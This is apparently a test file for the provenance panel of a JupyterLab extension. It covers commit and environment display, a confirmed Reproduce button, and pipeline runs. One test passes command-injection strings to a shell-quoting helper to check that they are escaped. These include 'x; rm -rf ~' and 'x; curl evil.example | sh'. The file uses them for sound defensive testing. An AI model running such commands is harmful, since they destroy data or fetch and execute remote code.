import { nullTranslator } from '@jupyterlab/translation';
import React, { act } from 'react';

import {
  ProvenanceApi,
  ReproductionSchema,
  RunProvenanceSchema,
  type Reproduction
} from '../../src/provenance/api';
import { shellWord } from '../../src/core/shellWord';
import { ProvenanceSection } from '../../src/provenance/section';

(
  globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }
).IS_REACT_ACT_ENVIRONMENT = true;

// eslint-disable-next-line @typescript-eslint/no-require-imports
const { createRoot } = require('react-dom/client') as {
  createRoot: (container: Element) => {
    render: (node: React.ReactNode) => void;
    unmount: () => void;
  };
};

const trans = nullTranslator.load('nbcraft');

const PROVENANCE = RunProvenanceSchema.parse({
  run_id: 'r1',
  status: 'partial',
  note: 'nbcraft is not installed in this kernel',
  git: {
    commit: 'abcdef0123456789abcdef0123456789abcdef01',
    branch: null,
    repo_url: 'https://tok@github.com/acme/churn.git',
    dirty: true,
    diff_truncated: true,
    in_repository: true
  },
  notebook: {
    path: 'train.ipynb',
    snapshot_cells: [{ cell_type: 'code', source: 'x = 1' }],
    current_cells: [{ cell_type: 'code', source: 'x = 2' }]
  },
  environment: {
    python: '3.11.2',
    compared_with: 'kernel k-1 of train.ipynb',
    note: 'the kernel runs remotely: compared with the server',
    changed: [{ name: 'numpy', run: '1.26.0', now: '2.0.0' }]
  },
  inputs: [
    { path: 'data/train.csv', location: 'repo', size: 2048, changed: true }
  ]
});

/** A ProvenanceApi whose routes answer from memory, recording what was asked. */
function fakeApi(reproduction: Reproduction, provenance = PROVENANCE) {
  const asked: string[] = [];
  const api = new ProvenanceApi(null as never);
  api.run = (runId, kernel) => {
    asked.push(`run ${runId} ${kernel ?? '-'}`);
    return Promise.resolve(provenance);
  };
  api.reproduce = runId => {
    asked.push(`reproduce ${runId}`);
    return Promise.resolve('p1');
  };
  api.reproduction = () => Promise.resolve(reproduction);
  return { api, asked };
}

async function render(
  reproduction: Reproduction,
  accept = true,
  provenance = PROVENANCE
) {
  const { api, asked } = fakeApi(reproduction, provenance);
  const shown: string[] = [];
  const host = document.createElement('div');
  document.body.appendChild(host);
  const root = createRoot(host);
  await act(async () => {
    root.render(
      <ProvenanceSection
        api={api}
        runId="r1"
        trans={trans}
        kernelId="k-1"
        onShowRun={id => shown.push(id)}
        confirmReproduce={() => {
          asked.push('confirm');
          return Promise.resolve(accept);
        }}
      />
    );
    await Promise.resolve();
  });
  return { host, asked, shown, root };
}

function must<T extends Element>(node: T | null): T {
  if (!node) {
    throw new Error('element not found');
  }
  return node;
}

const text = (host: Element, selector: string) =>
  host.querySelector(selector)?.textContent ?? null;

describe('ProvenanceSection', () => {
  it('shows the commit, the dirty mark in words, the note, the diff, the environment and the inputs', async () => {
    const { host, asked, root } = await render(
      ReproductionSchema.parse({ id: 'p1', run_id: 'r1', status: 'running' })
    );
    expect(asked).toEqual(['run r1 k-1']);
    expect(text(host, '.jp-nbcraft-provenance-notice')).toContain(
      'nbcraft is not installed in this kernel'
    );
    const commit = text(host, '.jp-nbcraft-provenance-commit') ?? '';
    expect(commit).toContain('abcdef012345');
    expect(commit).toContain('(detached HEAD)');
    expect(commit).toContain('uncommitted changes');
    expect(commit).toContain('cut at its size cap');
    // credentials never reach the page, even if a tag carried them
    expect(host.innerHTML).not.toContain('tok@');
    expect(
      host.querySelector('.jp-nbcraft-provenance-repo a')?.getAttribute('href')
    ).toBe('https://github.com/acme/churn.git');
    expect(text(host, '.jp-nbcraft-provenance-nbdiff')).toContain(
      'Cell 1 (code) changed'
    );
    expect(text(host, '.jp-nbcraft-provenance-diff')).toContain('-x = 1+x = 2');
    expect(text(host, '.jp-nbcraft-provenance-compared')).toBe(
      'Compared with kernel k-1 of train.ipynb.the kernel runs remotely: compared with the server'
    );
    expect(text(host, '[data-package="numpy"]')).toBe(
      'numpy1.26.02.0.0~ changed'
    );
    expect(text(host, '[data-input="data/train.csv"] [data-mark]')).toBe(
      '✱ changed since the run'
    );
    act(() => {
      root.unmount();
    });
  });

  it('says when the run ran code its snapshot lacks, and when the notebook is untracked', async () => {
    const edited = RunProvenanceSchema.parse({
      ...PROVENANCE,
      note: 'cell 2 ran code that the saved notebook does not hold ([1])',
      git: { ...PROVENANCE.git, dirty: false, notebook: 'untracked' },
      notebook: {
        ...PROVENANCE.notebook,
        executed: 'differs',
        current_cells: PROVENANCE.notebook?.snapshot_cells
      }
    });
    const { host, root } = await render(
      ReproductionSchema.parse({ id: 'p1', run_id: 'r1', status: 'running' }),
      true,
      edited
    );
    expect(text(host, '.jp-nbcraft-provenance-notice')).toContain(
      'cell 2 ran code that the saved notebook does not hold ([1])'
    );
    const commit = text(host, '.jp-nbcraft-provenance-commit') ?? '';
    expect(commit).toContain('clean');
    expect(text(host, '[data-notebook-git="untracked"]')).toContain(
      'The notebook itself is not in git (untracked)'
    );
    expect(text(host, '[data-executed="differs"]')).toContain(
      'The run ran code that its snapshot does not hold: a saved cell ran other code'
    );
    const nb = text(host, '.jp-nbcraft-provenance-notebook') ?? '';
    expect(nb).toContain(
      'The notebook file is the same as the run’s snapshot.'
    );
    expect(nb).not.toContain('The notebook is the same as in the run.');
    act(() => {
      root.unmount();
    });
  });

  it('Reproduce posts, shows the metric table and links to the new run', async () => {
    const done = ReproductionSchema.parse({
      id: 'p1',
      run_id: 'r1',
      status: 'not-reproduced',
      message: 'data/train.csv changed since the run',
      new_run_id: 'r2-0123456789',
      metrics: [
        {
          key: 'acc',
          original: 0.9,
          reproduced: 0.8,
          rel_diff: 0.111,
          ok: false
        }
      ],
      inputs: [{ path: 'data/train.csv', ok: false, reason: 'digest differs' }],
      notes: ['mypkg is an editable install: today’s code ran']
    });
    const { host, asked, shown, root } = await render(done);
    const button = must(
      host.querySelector<HTMLButtonElement>(
        '.jp-nbcraft-provenance-reproduce-btn'
      )
    );
    expect(button.textContent).toBe('Reproduce');
    await act(async () => {
      button.click();
      await Promise.resolve();
    });
    expect(asked).toEqual(['run r1 k-1', 'confirm', 'reproduce r1']);
    const state = must(
      host.querySelector('.jp-nbcraft-provenance-reproduce-state')
    );
    expect(state.getAttribute('data-status')).toBe('not-reproduced');
    expect(state.textContent).toContain('Not reproduced.');
    expect(text(host, '[data-metric="acc"]')).toBe('acc0.90.811.1 %✗ no');
    expect(text(host, '.jp-nbcraft-provenance-result')).toContain(
      'mypkg is an editable install: today’s code ran'
    );
    expect(text(host, '.jp-nbcraft-provenance-failed-inputs')).toBe(
      'data/train.csv: digest differs'
    );
    const link = must(
      host.querySelector<HTMLButtonElement>('.jp-nbcraft-provenance-newrun')
    );
    act(() => {
      link.click();
    });
    expect(shown).toEqual(['r2-0123456789']);
    act(() => {
      root.unmount();
    });
  });

  it('Reproduce runs nothing when the user declines the confirmation', async () => {
    const { host, asked, root } = await render(
      ReproductionSchema.parse({ id: 'p1', run_id: 'r1', status: 'running' }),
      false
    );
    const button = must(
      host.querySelector<HTMLButtonElement>(
        '.jp-nbcraft-provenance-reproduce-btn'
      )
    );
    await act(async () => {
      button.click();
      await Promise.resolve();
    });
    expect(asked).toEqual(['run r1 k-1', 'confirm']);
    expect(
      host
        .querySelector('.jp-nbcraft-provenance-reproduce-state')
        ?.getAttribute('data-phase')
    ).toBe('idle');
    act(() => {
      root.unmount();
    });
  });

  /** A pipeline's parent run's section (it has a pipeline.json, not a notebook). */
  async function pipelineParent(pipeline: string) {
    const api = fakeApi(
      ReproductionSchema.parse({ id: 'p1', run_id: 'r1', status: 'running' })
    );
    const host = document.createElement('div');
    const root = createRoot(host);
    await act(async () => {
      root.render(
        <ProvenanceSection
          api={api.api}
          runId="r1"
          trans={trans}
          kernelId={null}
          pipeline={pipeline}
          onShowRun={() => undefined}
          confirmReproduce={() => Promise.resolve(true)}
        />
      );
      await Promise.resolve();
    });
    const unmount = () => {
      act(() => {
        root.unmount();
      });
    };
    return { api, host, unmount };
  }

  it("offers no Reproduce on a pipeline's parent run, and says why", async () => {
    // Its record is a pipeline.json, not a notebook: the route refuses it ("reproduce a
    // step's run"), after the user had confirmed running it as code.
    const { api, host, unmount } = await pipelineParent('train');
    expect(host.querySelector('.jp-nbcraft-provenance-reproduce-btn')).toBe(
      null
    );
    expect(text(host, '.jp-nbcraft-provenance-reproduce')).toBe(
      "This is the parent run of pipeline train: it ran no notebook of its own, so it cannot be reproduced as one. Reproduce one of its steps' runs, or run the pipeline again with: jupyter nbcraft run --pipeline train"
    );
    expect(api.asked).toEqual(['run r1 -']);
    unmount();
  });

  it('quotes a pipeline name in the command to copy', async () => {
    const { host, unmount } = await pipelineParent('x; rm -rf ~');
    expect(text(host, '.jp-nbcraft-provenance-reproduce')).toMatch(
      /jupyter nbcraft run --pipeline 'x; rm -rf ~'$/
    );
    unmount();
    expect(shellWord('train.v2-nightly')).toBe('train.v2-nightly');
    expect(shellWord('x; curl evil.example | sh')).toBe(
      "'x; curl evil.example | sh'"
    );
    expect(shellWord("it's $(id)")).toBe("'it'\\''s $(id)'");
  });

  it('shows a route error plainly', async () => {
    const api = new ProvenanceApi(null as never);
    api.run = () => Promise.reject(new Error('unknown run r9'));
    const host = document.createElement('div');
    const root = createRoot(host);
    await act(async () => {
      root.render(
        <ProvenanceSection
          api={api}
          runId="r9"
          trans={trans}
          kernelId={null}
          onShowRun={() => undefined}
          confirmReproduce={() => Promise.resolve(false)}
        />
      );
      await Promise.resolve();
    });
    expect(text(host, '[role="alert"]')).toBe(
      'Provenance could not be read: unknown run r9'
    );
    act(() => {
      root.unmount();
    });
  });
});
